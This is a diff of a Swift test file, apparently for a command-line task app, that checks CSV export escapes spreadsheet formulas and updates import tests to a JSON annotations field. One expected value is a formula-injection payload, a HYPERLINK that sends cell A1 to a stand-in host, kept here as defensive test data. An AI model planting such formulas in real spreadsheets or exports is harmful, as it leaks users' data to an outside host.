@@ -138,7 +138,8 @@ import Testing
         #expect(titles.contains(#"'=HYPERLINK("http://evil.example/?"&A1,"Click")"#))
         #expect(titles.contains("''=already quoted"))
         #expect(titles.contains("'-2+3"))
-        #expect(rows.dropFirst().contains { $0[3] == "'-minus =eq @at" && $0[4] == "'+plus" && $0[5].hasPrefix("'=1+1") })
+        // Annotations are a JSON list: the note's own "=1+1" sits inside it, never at a cell's start.
+        #expect(rows.dropFirst().contains { $0[3] == "'-minus =eq @at" && $0[4] == "'+plus" && $0[5].contains(#""text":"=1+1"#) })
     }
 
     @Test func aForeignCSVKeepsItsLeadingQuotes() throws {
@@ -149,7 +150,7 @@ import Testing
         #expect(try td.run(["import", path, "--yes"]).status == 0)
         let tasks = try td.json(["list", "--json"]) as! [[String: Any]]
         #expect(tasks.first?["title"] as? String == "'=kept")
-        #expect(tasks.first?["notes"] as? String == "'+kept too")
+        #expect((tasks.first?["annotations"] as? [[String: Any]])?.map { $0["text"] as? String } == ["'+kept too"])
     }
 
     @Test func todoTxtTitlesDoNotReparseAsMetadata() throws {
